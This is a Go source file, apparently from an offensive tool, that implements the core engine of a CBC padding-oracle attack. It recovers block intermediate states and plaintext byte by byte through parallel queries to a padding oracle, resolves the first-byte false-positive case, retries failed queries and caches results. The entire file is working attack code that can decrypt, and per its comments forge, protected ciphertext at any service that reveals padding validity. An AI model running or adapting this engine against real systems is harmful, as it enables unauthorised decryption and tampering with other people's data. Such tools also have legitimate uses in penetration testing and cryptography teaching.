// Package engine implements the attack engine of spec.md §4.4 (byte-at-a-
// time intermediate-state recovery with block- and byte-level parallelism)
// and, in forge.go, the encryption forger of §4.5. Both share this package
// because the forger is "a trivial mode-shift" of the same recovery loop
// (spec.md §2).
package engine

import (
	"context"
	"errors"
	"fmt"
	"time"

	"go.uber.org/zap"
	"golang.org/x/sync/errgroup"
	"golang.org/x/sync/semaphore"

	"github.com/nullbyte-labs/padoracle/internal/cache"
	"github.com/nullbyte-labs/padoracle/internal/oracle"
	"github.com/nullbyte-labs/padoracle/internal/pobytes"
	"github.com/nullbyte-labs/padoracle/internal/poerr"
	"github.com/nullbyte-labs/padoracle/internal/progress"
)

// DefaultThreadCount is the bounded thread pool size spec.md §5 defaults to.
const DefaultThreadCount = 64

// DefaultMaxRetries is how many times a Transient verdict is retried before
// being promoted to a block failure (spec.md §5, §7).
const DefaultMaxRetries = 3

// Config bounds and tunes one engine run. The zero value is not usable;
// build one with reasonable defaults via NewConfig.
type Config struct {
	BlockSize   int
	HasIV       bool
	ThreadCount int
	MaxRetries  int
	RetryDelay  time.Duration
	SkipCache   bool
	Logger      *zap.Logger
}

// NewConfig fills in spec.md §5's defaults for any zero field.
func NewConfig(blockSize int, hasIV bool) Config {
	return Config{
		BlockSize:   blockSize,
		HasIV:       hasIV,
		ThreadCount: DefaultThreadCount,
		MaxRetries:  DefaultMaxRetries,
		RetryDelay:  0,
		Logger:      zap.NewNop(),
	}
}

// BlockResult is the atomic per-block output of spec.md §3: the recovered
// intermediate state and the plaintext it implies.
type BlockResult struct {
	Index         int
	Intermediate  []byte
	Plaintext     []byte
	FromCache     bool
	Unrecoverable bool // block 0 (the IV, or with no IV a block with no predecessor), or a block never attacked
}

// DecryptResult is the terminal output of a Decrypt run.
type DecryptResult struct {
	Blocks    []BlockResult
	Plaintext []byte // concatenation of recoverable blocks' plaintext, in order
}

// Engine drives the attack described in spec.md §4.4/§4.5 against one
// Oracle, with an optional Cache and a Progress/Control plane.
type Engine struct {
	cfg      Config
	oracle   oracle.Oracle
	cache    *cache.Cache
	progress *progress.Controller
	sem      *semaphore.Weighted
	logger   *zap.Logger
}

// New builds an Engine. progressCtl may be nil, in which case a private,
// unobserved Controller is created (useful for tests).
func New(cfg Config, o oracle.Oracle, c *cache.Cache, progressCtl *progress.Controller) (*Engine, error) {
	if cfg.BlockSize != 8 && cfg.BlockSize != 16 {
		return nil, &poerr.InvalidCiphertext{Reason: fmt.Sprintf("unsupported block size %d (must be 8 or 16)", cfg.BlockSize)}
	}
	threadCount := cfg.ThreadCount
	if threadCount <= 0 {
		threadCount = DefaultThreadCount
	}
	maxRetries := cfg.MaxRetries
	if maxRetries <= 0 {
		maxRetries = DefaultMaxRetries
	}
	logger := cfg.Logger
	if logger == nil {
		logger = zap.NewNop()
	}
	if c == nil {
		c = cache.NewNoop()
	}
	if progressCtl == nil {
		progressCtl = progress.New(0)
	}

	cfg.ThreadCount = threadCount
	cfg.MaxRetries = maxRetries

	return &Engine{
		cfg:      cfg,
		oracle:   o,
		cache:    c,
		progress: progressCtl,
		sem:      semaphore.NewWeighted(int64(threadCount)),
		logger:   logger,
	}, nil
}

// Progress exposes the Controller for callers that built the Engine without
// supplying their own (e.g. a CLI invocation that wants to attach a
// renderer after construction).
func (e *Engine) Progress() *progress.Controller { return e.progress }

// validateCiphertext enforces spec.md §3's invariants before any block job
// is dispatched.
func (e *Engine) validateCiphertext(ciphertext []byte) error {
	B := e.cfg.BlockSize
	if len(ciphertext)%B != 0 {
		return &poerr.InvalidCiphertext{
			Reason: fmt.Sprintf("length %d is not a multiple of block size %d", len(ciphertext), B),
		}
	}
	minLen := 2 * B
	if !e.cfg.HasIV {
		minLen = B
	}
	if len(ciphertext) < minLen {
		return &poerr.InvalidCiphertext{
			Reason: fmt.Sprintf("length %d is shorter than the minimum %d", len(ciphertext), minLen),
		}
	}
	return nil
}

// Decrypt recovers the plaintext of every recoverable block in ciphertext
// (spec.md §4.4). Block 0 is never a target: with an IV it's the IV itself,
// without one its plaintext is unrecoverable by design (spec.md §3).
func (e *Engine) Decrypt(ctx context.Context, ciphertext []byte) (DecryptResult, error) {
	if err := e.validateCiphertext(ciphertext); err != nil {
		return DecryptResult{}, err
	}

	blocks, err := pobytes.Chunks(ciphertext, e.cfg.BlockSize)
	if err != nil {
		return DecryptResult{}, fmt.Errorf("engine: %w", err)
	}

	results := make([]BlockResult, len(blocks))
	results[0] = BlockResult{Index: 0, Unrecoverable: true}

	g, gctx := errgroup.WithContext(ctx)
	for idx := 1; idx < len(blocks); idx++ {
		idx := idx
		g.Go(func() error {
			res, err := e.recoverBlock(gctx, idx, blocks[idx], blocks[idx-1])
			if err != nil {
				return err
			}
			results[idx] = res
			return nil
		})
	}

	if err := g.Wait(); err != nil {
		if e.progress.Cancelled() {
			if flushErr := e.cache.Flush(); flushErr != nil {
				e.logger.Warn("flushing cache after cancellation", zap.Error(flushErr))
			}
			return partialResult(results), &poerr.Cancelled{}
		}
		return DecryptResult{}, err
	}

	if err := e.cache.Flush(); err != nil {
		return DecryptResult{}, fmt.Errorf("engine: flushing cache: %w", err)
	}

	return fullResult(results), nil
}

func partialResult(results []BlockResult) DecryptResult {
	var plaintext []byte
	solved := make([]BlockResult, 0, len(results))
	for _, r := range results {
		if r.Intermediate != nil {
			plaintext = append(plaintext, r.Plaintext...)
			solved = append(solved, r)
		}
	}
	return DecryptResult{Blocks: solved, Plaintext: plaintext}
}

func fullResult(results []BlockResult) DecryptResult {
	var plaintext []byte
	for _, r := range results[1:] {
		plaintext = append(plaintext, r.Plaintext...)
	}
	return DecryptResult{Blocks: results, Plaintext: plaintext}
}

// recoverBlock implements spec.md §4.4 steps 1-4 for a single block.
func (e *Engine) recoverBlock(ctx context.Context, index int, target, predecessor []byte) (BlockResult, error) {
	B := e.cfg.BlockSize

	if cached, ok := e.cache.Lookup(e.oracle.Identity(), B, target); ok {
		plaintext := pobytes.XOR(cached, predecessor)
		e.progress.Transition(index, B, progress.Solved, B, nil)
		return BlockResult{Index: index, Intermediate: cached, Plaintext: plaintext, FromCache: true}, nil
	}

	e.progress.Transition(index, B, progress.Running, 0, nil)

	if e.progress.Cancelled() {
		e.progress.Transition(index, B, progress.Cancelled, 0, nil)
		return BlockResult{}, &poerr.Cancelled{}
	}

	Q := make([]byte, B)
	intermediate := make([]byte, B)

	for p := 1; p <= B; p++ {
		if e.progress.Cancelled() {
			e.progress.Transition(index, B, progress.Cancelled, p-1, nil)
			return BlockResult{}, &poerr.Cancelled{}
		}

		pos := B - p
		for i := pos + 1; i < B; i++ {
			Q[i] = intermediate[i] ^ byte(p)
		}

		maxCount := 1
		if p == 1 {
			maxCount = 2
		}

		candidates, err := e.findCandidates(ctx, Q, target, pos, maxCount)
		if err != nil {
			e.progress.Transition(index, B, progress.Failed, p-1, err)
			return BlockResult{}, err
		}

		var chosen byte
		switch {
		case len(candidates) == 0:
			err := &poerr.NoValidByte{Block: index, PadValue: p}
			e.progress.Transition(index, B, progress.Failed, p-1, err)
			return BlockResult{}, err
		case len(candidates) == 1:
			chosen = candidates[0]
		default:
			// p == 1 false-positive disambiguation (spec.md §4.4): flip a
			// bit at position B-2 and re-query every candidate; the true
			// 0x01 case stays Correct, the spurious longer-pad case
			// becomes Incorrect.
			resolved, err := e.disambiguate(ctx, Q, target, pos, candidates)
			if err != nil {
				e.progress.Transition(index, B, progress.Failed, p-1, err)
				return BlockResult{}, err
			}
			chosen = resolved
		}

		intermediate[pos] = chosen ^ byte(p)
		e.progress.Transition(index, B, progress.Running, p, nil)
	}

	plaintext := pobytes.XOR(intermediate, predecessor)

	if err := e.cache.Insert(e.oracle.Identity(), B, target, intermediate); err != nil {
		e.progress.Transition(index, B, progress.Failed, B, err)
		return BlockResult{}, err
	}

	e.progress.Transition(index, B, progress.Solved, B, nil)
	return BlockResult{Index: index, Intermediate: intermediate, Plaintext: plaintext}, nil
}

// disambiguate resolves the p=1 false-positive case: exactly one of
// candidates must remain Correct after position B-2 is perturbed.
func (e *Engine) disambiguate(ctx context.Context, Q, target []byte, pos int, candidates []byte) (byte, error) {
	B := len(Q)
	perturbPos := B - 2

	for _, c := range candidates {
		trial := pobytes.Copy(Q)
		trial[pos] = c
		trial[perturbPos] ^= 0x01

		verdict, err := e.askWithRetry(ctx, append(trial, target...))
		if err != nil {
			return 0, err
		}
		if verdict == oracle.Correct {
			return c, nil
		}
	}
	return 0, errors.New("engine: p=1 disambiguation found no surviving candidate")
}

// findCandidates dispatches the 256 trials for position pos concurrently,
// bounded by the engine's shared semaphore, and returns every candidate
// that produced a Correct verdict, stopping early once maxCount is reached
// (spec.md §4.4: "Early-terminate the inner search ... to save oracle
// traffic"). Grounded on glebarez-GoPaddy's findGoodBytes/decryptChunk.
func (e *Engine) findCandidates(ctx context.Context, Q, target []byte, pos, maxCount int) ([]byte, error) {
	innerCtx, cancel := context.WithCancel(ctx)
	defer cancel()

	type outcome struct {
		v   byte
		ok  bool
		err error
	}
	outcomes := make(chan outcome, 256)

	for i := 0; i < 256; i++ {
		v := byte(i)
		go func() {
			if e.progress.Cancelled() {
				// Still report an outcome so the collector below, which
				// waits for one per candidate, doesn't block forever.
				outcomes <- outcome{v: v, err: &poerr.Cancelled{}}
				return
			}
			if err := e.sem.Acquire(innerCtx, 1); err != nil {
				return
			}
			defer e.sem.Release(1)

			trial := pobytes.Copy(Q)
			trial[pos] = v
			verdict, err := e.askWithRetry(innerCtx, append(trial, target...))

			select {
			case outcomes <- outcome{v: v, ok: err == nil && verdict == oracle.Correct, err: err}:
			case <-innerCtx.Done():
			}
		}()
	}

	var found []byte
	var firstErr error
	for i := 0; i < 256; i++ {
		select {
		case o := <-outcomes:
			if o.err != nil && !errors.Is(o.err, context.Canceled) && firstErr == nil {
				firstErr = o.err
			}
			if o.ok {
				found = append(found, o.v)
				if len(found) >= maxCount {
					cancel()
					if len(found) == 0 && firstErr != nil {
						return nil, firstErr
					}
					return found, nil
				}
			}
		case <-innerCtx.Done():
			if len(found) == 0 && firstErr != nil {
				return nil, firstErr
			}
			return found, nil
		}
	}

	if len(found) == 0 && firstErr != nil {
		return nil, firstErr
	}
	return found, nil
}

// askWithRetry retries a Transient verdict up to cfg.MaxRetries times with
// exponential backoff starting at cfg.RetryDelay, promoting exhaustion to
// poerr.OracleTransient (spec.md §5, §7).
func (e *Engine) askWithRetry(ctx context.Context, forged []byte) (oracle.Verdict, error) {
	delay := e.cfg.RetryDelay
	var lastErr error

	for attempt := 0; attempt <= e.cfg.MaxRetries; attempt++ {
		verdict, err := e.oracle.Ask(ctx, forged)
		if err == nil && verdict != oracle.Transient {
			return verdict, nil
		}
		if err != nil {
			lastErr = err
		}
		if attempt == e.cfg.MaxRetries {
			break
		}
		if delay > 0 {
			select {
			case <-time.After(delay):
			case <-ctx.Done():
				return oracle.Transient, ctx.Err()
			}
			delay *= 2
		}
	}

	return oracle.Transient, &poerr.OracleTransient{Err: lastErr, Retries: e.cfg.MaxRetries}
}
